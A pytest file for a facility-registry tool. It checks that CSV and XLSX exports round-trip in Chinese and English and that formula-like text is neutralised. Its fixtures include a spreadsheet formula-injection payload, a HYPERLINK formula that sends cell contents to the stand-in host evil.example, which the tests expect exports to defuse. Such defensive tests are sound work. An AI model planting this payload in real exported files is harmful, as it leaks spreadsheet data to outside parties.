"""Export: what `export` writes, `import` reads back to the same records (DATA_FORMAT.md).

A varied data set (Chinese headers, GCJ-02 and BD-09 coordinates, decimals,
dates, bookable capabilities, a price on request (面议), a facility without coordinates, text that a
spreadsheet would take for a formula) is imported, exported, and re-imported:
nothing may change, whichever language the export speaks (Chinese headers and values by default, English
on request; issue 14 made Chinese the default, so the tests that read English columns ask for English).
Formula-like text is neutralised in both formats.
"""
import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from geo.coords import wgs84_to_bd09, wgs84_to_gcj02
from registry.errors import RegistryError
from registry.models import Capability, Change, ChangeSet
from registry.schemas.interchange import CAPABILITY_COLUMNS, FACILITY_COLUMNS
from registry.services.records.canonical import load_facilities
from registry.services.records.exporting import export_dataset
from tests.factories import capability, facility, point_in, run, write_csv, write_dataset

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
AT_SUM = "@SUM(A1:A9) 检测站"
MINUS = "-1+2 实验室"
PLUS_PHONE = "+86 571 8888 0001"
FORMULA_CAPABILITY = "=1+1 公式样名称"



def write_chinese(folder: Path, facilities=(), capabilities=()) -> list[Path]:
    """Each table with its own Chinese headers, as bureaus send them."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, rows, headers in (("facilities", facilities, FACILITY_COLUMNS),
                                ("capabilities", capabilities, CAPABILITY_COLUMNS)):
        translated = [{headers[k]: v for k, v in row.items()} for row in rows]
        paths.append(write_csv(folder / f"{name}.csv", translated))
    return paths


def varied_dataset(folder: Path) -> list[Path]:
    glon, glat = wgs84_to_gcj02(*point_in("330106"))
    blon, blat = wgs84_to_bd09(*point_in("330109"))
    lon3, lat3 = point_in("330108")
    facilities = [
        facility(1, name=HYPERLINK, name_en="Hangzhou Institute of Metrology", kind="计量技术机构",
                 ownership="国有", level="市级", org_name="杭州市质量技术监督检测院",
                 district_code="西湖区", address="杭州市西湖区\u3000天目山路 1 号",
                 lon=repr(glon), lat=repr(glat), crs="gcj02", phone=PLUS_PHONE,
                 email="lab@hzjl.org.cn", website="https://www.hzjl.org.cn/about", shared="是",
                 fields="新能源；集成电路;生物医药", cma_no="2019 2300 0123",
                 cma_valid_until="2027年6月30日", cnas_no="cnas l1234",
                 cnas_valid_until="2026/12/31", cnca_no="cnca r 2002 001", status="正常"),
        facility(2, name=AT_SUM, kind="检验检测机构", ownership="民营", district_code="淳安县",
                 lon=None, lat=None, shared="否", status="暂停", uscc="91310115ma1k3btp2b"),
        facility(3, name=MINUS, kind="认证机构", ownership="社会资金", district_code=None,
                 lon=str(lon3), lat=str(lat3), shared="1", cnca_no="CNCA-RF-2018-05"),
        facility(4, name="萧山区检测中心", district_code="330109", lon=repr(blon), lat=repr(blat),
                 crs="百度", shared="true", level="区县级", status="closed"),
    ]
    capabilities = [
        capability(1, 1, kind="计量标准", name="0.05级活塞式压力计标准装置", discipline="力学",
                   standards="JJG 59-2007；JJG52-2013", quantity="压力", range_min="0",
                   range_max="60", unit="Mpa", uncertainty="U=0.05%, k=2",
                   certificate_no="[2019]浙量标杭法证字第001号", valid_until="2028年1月31日",
                   price_cny="1200.5", lead_time_days="5", bookable="是", daily_capacity="3"),
        capability(1, 2, kind="measurement_standard", name="工作用玻璃液体温度计标准装置",
                   discipline="04", range_min="-40", range_max="150.25", unit="℃",
                   uncertainty="-0.5~+0.5 ℃", valid_until="2020-01-01", price_cny="0.01"),
        capability(2, 1, name=FORMULA_CAPABILITY, category="电线电缆",
                   standards="GB/T3048.4-2007", range_min="0.001", range_max="1000000",
                   unit="Ω", price_cny="99.90", lead_time_days="0", bookable="no"),
        capability(3, 1, kind="认证范围", name="质量管理体系认证 ISO 9001",
                   category="管理体系", standards="ISO 9001:2015"),
        capability(4, 1, capability_id="A-1", kind="test_item", name="噪声", range_min="30", range_max="130",
                   unit="dB", bookable="yes", daily_capacity="1", price_cny="1234567.89"),
        capability(4, 2, capability_id="A-2", kind="检测项目", name="振动", price_cny="面议", bookable="是",
                   daily_capacity="2"),
    ]
    return write_chinese(folder, facilities, capabilities)


def changes(session) -> tuple[int, int]:
    return (session.scalar(select(func.count()).select_from(Change)),
            session.scalar(select(func.count()).select_from(ChangeSet)))


@pytest.fixture
def imported(session, tmp_path):
    """The varied data set, imported."""
    report = run(session, varied_dataset(tmp_path / "source"))
    assert not report.errors and report.committed, [(i.file, i.row, i.column, str(i.message))
                                                    for i in report.errors]
    assert report.counts["facilities"]["created"] == 4
    assert report.counts["capabilities"]["created"] == 6
    return report


def read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def assert_reimport_changes_nothing(session, paths):
    before = changes(session)
    report = run(session, paths)
    assert not report.errors, [(i.file, i.row, i.column, i.value, str(i.message))
                               for i in report.errors]
    assert dict(report.counts["facilities"]) == {"unchanged": 4}
    assert dict(report.counts["capabilities"]) == {"unchanged": 6}
    assert not report.changed and not report.committed
    assert changes(session) == before


# --- CSV ---------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_csv_export_reimported_changes_nothing(session, tmp_path, imported, lang):
    counts = export_dataset(session, tmp_path / "out", lang)
    assert counts == {"facilities": 4, "capabilities": 6}
    assert_reimport_changes_nothing(session, [tmp_path / "out" / "facilities.csv",
                                              tmp_path / "out" / "capabilities.csv"])


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_csv_export_of_a_reimport_is_byte_identical(session, tmp_path, imported, lang):
    export_dataset(session, tmp_path / "first", lang)
    run(session, [tmp_path / "first" / "facilities.csv", tmp_path / "first" / "capabilities.csv"])
    export_dataset(session, tmp_path / "second", lang)
    for name in ("facilities.csv", "capabilities.csv"):
        assert (tmp_path / "first" / name).read_bytes() == (tmp_path / "second" / name).read_bytes()


def test_a_chinese_export_reimported_then_exported_in_english_is_the_english_export(session, tmp_path, imported):
    """Export → import round-trips across the languages too: the records, not only the text, are the same."""
    export_dataset(session, tmp_path / "english", "en")
    export_dataset(session, tmp_path / "chinese")
    run(session, [tmp_path / "chinese" / "facilities.csv", tmp_path / "chinese" / "capabilities.csv"])
    export_dataset(session, tmp_path / "again", "en")
    for name in ("facilities.csv", "capabilities.csv"):
        assert (tmp_path / "english" / name).read_bytes() == (tmp_path / "again" / name).read_bytes()


def test_csv_export_writes_chinese_headers_in_the_documented_order_by_default(session, tmp_path, imported):
    export_dataset(session, tmp_path / "out")
    with (tmp_path / "out" / "facilities.csv").open(encoding="utf-8-sig", newline="") as stream:
        assert next(csv.reader(stream)) == list(FACILITY_COLUMNS.values())
    with (tmp_path / "out" / "capabilities.csv").open(encoding="utf-8-sig", newline="") as stream:
        assert next(csv.reader(stream)) == list(CAPABILITY_COLUMNS.values())


def test_csv_export_writes_english_headers_in_the_documented_order_on_request(session, tmp_path, imported):
    export_dataset(session, tmp_path / "out", "en")
    with (tmp_path / "out" / "facilities.csv").open(encoding="utf-8-sig", newline="") as stream:
        assert next(csv.reader(stream)) == list(FACILITY_COLUMNS)
    with (tmp_path / "out" / "capabilities.csv").open(encoding="utf-8-sig", newline="") as stream:
        assert next(csv.reader(stream)) == list(CAPABILITY_COLUMNS)


def test_chinese_export_writes_values_as_people_write_them(session, tmp_path, imported):
    export_dataset(session, tmp_path / "out")
    facilities = {r["机构编号"]: r for r in read_csv(tmp_path / "out" / "facilities.csv")}
    first = facilities["F0001"]
    assert ([first[FACILITY_COLUMNS[c]] for c in ("kind", "ownership", "level", "district_code", "crs", "shared",
                                                   "cma_valid_until", "status")]) == [
        "计量技术机构", "国有", "市级", "西湖区", "wgs84", "是", "2027-06-30", "正常"]
    assert [facilities[f"F000{n}"][FACILITY_COLUMNS["kind"]] for n in (2, 3)] == ["检验检测机构", "认证机构"]
    assert (facilities["F0002"][FACILITY_COLUMNS["ownership"]], facilities["F0002"][FACILITY_COLUMNS["shared"]],
            facilities["F0002"][FACILITY_COLUMNS["status"]]) == ("社会资金", "否", "暂停")
    caps = {(r["机构编号"], r["能力编号"]): r for r in read_csv(tmp_path / "out" / "capabilities.csv")}
    standard = caps[("F0001", "C0001")]
    assert ([standard[CAPABILITY_COLUMNS[c]] for c in ("kind", "discipline", "price_cny", "bookable")]) == [
        "计量标准", "力学", "1200.50", "是"]
    assert caps[("F0002", "C0001")][CAPABILITY_COLUMNS["kind"]] == "检验检测项目"
    assert caps[("F0003", "C0001")][CAPABILITY_COLUMNS["kind"]] == "认证范围"
    assert caps[("F0004", "A-2")][CAPABILITY_COLUMNS["price_cny"]] == "面议"
    text = "".join(p.read_text(encoding="utf-8-sig") for p in (tmp_path / "out").iterdir())
    for key in ("metrology", "testing", "state", "private", "measurement_standard", "test_item", "yes", "no",
                "active", "mechanics", "on request"):
        assert f",{key}," not in text and f",{key}\r\n" not in text, key


def test_a_price_on_request_is_exported_as_mianyi_and_comes_back(session, tmp_path, imported):
    stored = session.scalar(select(Capability).where(Capability.capability_id == "A-2"))
    assert (stored.price_cny, stored.price_on_request) == (None, True)
    export_dataset(session, tmp_path / "en", "en")
    caps = {r["capability_id"]: r for r in read_csv(tmp_path / "en" / "capabilities.csv")}
    assert (caps["A-2"]["price_cny"], caps["A-1"]["price_cny"]) == ("on request", "1234567.89")
    export_dataset(session, tmp_path / "zh.xlsx")
    sheet = load_workbook(tmp_path / "zh.xlsx")["能力"]
    prices = {row[1].value: row[14].value for row in sheet.iter_rows(min_row=2)}
    assert prices["A-2"] == "面议" and prices["C0002"] == 0.01
    run(session, [tmp_path / "zh.xlsx"])
    session.expire_all()
    assert session.scalar(select(Capability.price_on_request).where(Capability.capability_id == "A-2")) is True


def test_csv_export_in_english_writes_canonical_values(session, tmp_path, imported):
    export_dataset(session, tmp_path / "out", "en")
    facilities = {r["facility_id"]: r for r in read_csv(tmp_path / "out" / "facilities.csv")}
    first = facilities["F0001"]
    assert (first["kind"], first["ownership"], first["level"], first["district_code"],
            first["crs"], first["shared"], first["fields"], first["cma_no"],
            first["cma_valid_until"], first["cnas_no"], first["cnca_no"], first["status"]) == (
        "metrology", "state", "city", "330106", "wgs84", "yes", "新能源;集成电路;生物医药",
        "201923000123", "2027-06-30", "CNAS L1234", "CNCA-R-2002-001", "active")
    lon, lat = point_in("330106")  # the GCJ-02 input is exported as WGS-84
    assert float(first["lon"]) == pytest.approx(lon, abs=1e-6)
    assert float(first["lat"]) == pytest.approx(lat, abs=1e-6)
    no_location = facilities["F0002"]
    assert (no_location["lon"], no_location["lat"], no_location["crs"],
            no_location["district_code"], no_location["shared"]) == ("", "", "", "330127", "no")
    assert facilities["F0003"]["district_code"] == "330108"  # derived, then written
    caps = {(r["facility_id"], r["capability_id"]): r
            for r in read_csv(tmp_path / "out" / "capabilities.csv")}
    standard = caps[("F0001", "C0001")]
    assert (standard["kind"], standard["discipline"], standard["standards"], standard["unit"],
            standard["range_min"], standard["range_max"], standard["valid_until"],
            standard["price_cny"], standard["bookable"], standard["daily_capacity"]) == (
        "measurement_standard", "mechanics", "JJG 59-2007;JJG 52-2013", "MPa", "0", "60",
        "2028-01-31", "1200.50", "yes", "3")
    thermometer = caps[("F0001", "C0002")]
    assert (thermometer["range_min"], thermometer["range_max"], thermometer["price_cny"],
            thermometer["valid_until"], thermometer["bookable"]) == (
        "-40", "150.25", "0.01", "2020-01-01", "no")


def test_csv_export_neutralises_formula_like_text_with_an_apostrophe(session, tmp_path, imported):
    export_dataset(session, tmp_path / "out", "en")
    facilities = {r["facility_id"]: r for r in read_csv(tmp_path / "out" / "facilities.csv")}
    assert facilities["F0001"]["name"] == "'" + HYPERLINK
    assert facilities["F0002"]["name"] == "'" + AT_SUM
    assert facilities["F0003"]["name"] == "'" + MINUS
    assert facilities["F0001"]["phone"] == "'" + PLUS_PHONE
    assert facilities["F0004"]["name"] == "萧山区检测中心"  # ordinary text untouched
    caps = {(r["facility_id"], r["capability_id"]): r
            for r in read_csv(tmp_path / "out" / "capabilities.csv")}
    assert caps[("F0002", "C0001")]["name"] == "'" + FORMULA_CAPABILITY
    assert caps[("F0001", "C0002")]["uncertainty"] == "'-0.5~+0.5 ℃"
    assert caps[("F0001", "C0002")]["range_min"] == "-40"  # numbers are not text


def test_formula_like_text_comes_back_without_the_apostrophe(session, tmp_path, imported):
    export_dataset(session, tmp_path / "out")
    run(session, [tmp_path / "out" / "facilities.csv", tmp_path / "out" / "capabilities.csv"])
    records = {fid: record for fid, (_pk, _deleted, record) in load_facilities(session).items()}
    assert [records[f"F000{n}"]["name"] for n in (1, 2, 3)] == [HYPERLINK, AT_SUM, MINUS]
    assert records["F0001"]["phone"] == PLUS_PHONE
    names = set(session.scalars(select(Capability.name)))
    assert FORMULA_CAPABILITY in names and not any(n.startswith("'") for n in names)


# --- XLSX -----------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_xlsx_export_reimported_changes_nothing(session, tmp_path, imported, lang):
    counts = export_dataset(session, tmp_path / "out.xlsx", lang)
    assert counts == {"facilities": 4, "capabilities": 6}
    assert_reimport_changes_nothing(session, [tmp_path / "out.xlsx"])


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_xlsx_export_then_csv_export_matches_the_csv_export(session, tmp_path, imported, lang):
    export_dataset(session, tmp_path / "before", lang)
    export_dataset(session, tmp_path / "out.xlsx", lang)
    run(session, [tmp_path / "out.xlsx"])
    export_dataset(session, tmp_path / "after", lang)
    for name in ("facilities.csv", "capabilities.csv"):
        assert (tmp_path / "before" / name).read_bytes() == (tmp_path / "after" / name).read_bytes()


def test_xlsx_export_names_its_sheets_in_its_language(session, tmp_path):
    export_dataset(session, tmp_path / "zh.xlsx")
    export_dataset(session, tmp_path / "en.xlsx", "en")
    assert load_workbook(tmp_path / "zh.xlsx").sheetnames == ["机构", "能力"]
    assert load_workbook(tmp_path / "en.xlsx").sheetnames == ["facilities", "capabilities"]
    assert load_workbook(tmp_path / "zh.xlsx")["机构"]["A1"].value == "机构编号"


def test_xlsx_export_writes_formula_like_text_as_plain_strings(session, tmp_path, imported):
    export_dataset(session, tmp_path / "out.xlsx", "en")
    workbook = load_workbook(tmp_path / "out.xlsx")  # not data_only: formulas would show
    assert workbook.sheetnames == ["facilities", "capabilities"]
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    facilities = workbook["facilities"]
    header = [c.value for c in facilities[1]]
    names = [row[header.index("name")] for row in facilities.iter_rows(min_row=2)]
    for cell, text in zip(names[:3], (HYPERLINK, AT_SUM, MINUS)):
        assert cell.data_type == "s" and isinstance(cell.value, str)
        assert cell.value.lstrip("'") == text


def test_xlsx_export_keeps_numbers_and_dates_typed(session, tmp_path, imported):
    export_dataset(session, tmp_path / "out.xlsx", "en")
    workbook = load_workbook(tmp_path / "out.xlsx")
    sheet = workbook["capabilities"]
    header = [c.value for c in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2])}
    assert first["capability_id"].value == "C0001"
    assert first["range_max"].data_type == "n" and first["range_max"].value == 60
    assert first["price_cny"].data_type == "n" and Decimal(str(first["price_cny"].value)) == Decimal("1200.5")
    assert first["valid_until"].is_date and first["valid_until"].value.date() == date(2028, 1, 31)


# --- what is exported ---------------------------------------------------------------------------


@pytest.mark.parametrize("target", ["out", "out.xlsx"])
def test_tombstoned_records_are_not_exported(session, tmp_path, target):
    run(session, write_dataset(tmp_path / "a", [facility(1), facility(2)],
                               [capability(1, 1), capability(1, 2), capability(2, 1)]))
    report = run(session, write_dataset(tmp_path / "b", [facility(1)], [capability(1, 1)]),
                 prune=True)
    assert report.counts["facilities"]["deleted"] == 1
    assert report.counts["capabilities"]["deleted"] == 2
    counts = export_dataset(session, tmp_path / target, "en")
    assert counts == {"facilities": 1, "capabilities": 1}
    if target == "out":
        facilities = read_csv(tmp_path / "out" / "facilities.csv")
        capabilities = read_csv(tmp_path / "out" / "capabilities.csv")
    else:
        workbook = load_workbook(tmp_path / target, read_only=True)
        facilities, capabilities = (
            [dict(zip(rows[0], r)) for r in rows[1:]]
            for rows in ([list(r) for r in workbook[name].iter_rows(values_only=True)]
                         for name in ("facilities", "capabilities")))
    assert [r["facility_id"] for r in facilities] == ["F0001"]
    assert [(r["facility_id"], r["capability_id"]) for r in capabilities] == [("F0001", "C0001")]


def test_export_of_an_empty_registry_writes_headers_only(session, tmp_path):
    assert export_dataset(session, tmp_path / "out") == {"facilities": 0, "capabilities": 0}
    text = (tmp_path / "out" / "facilities.csv").read_text(encoding="utf-8-sig")
    assert text.splitlines() == [",".join(FACILITY_COLUMNS.values())]  # Chinese by default (issue 14)


def test_csv_export_starts_with_a_bom_so_excel_reads_chinese(session, tmp_path):
    export_dataset(session, tmp_path / "out")
    assert (tmp_path / "out" / "facilities.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_xlsx_export_keeps_formula_like_text_as_quoted_text(session, tmp_path):
    run(session, write_dataset(tmp_path / "in", [facility(1, name="=HYPERLINK(\"x\")")]))
    export_dataset(session, tmp_path / "out.xlsx")
    cell = load_workbook(tmp_path / "out.xlsx")["机构"]["B2"]  # the Chinese sheet name by default (issue 14)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ('=HYPERLINK("x")', "s", True)


def test_export_to_a_file_that_is_not_xlsx_is_refused(session, tmp_path):
    with pytest.raises(RegistryError):
        export_dataset(session, tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()
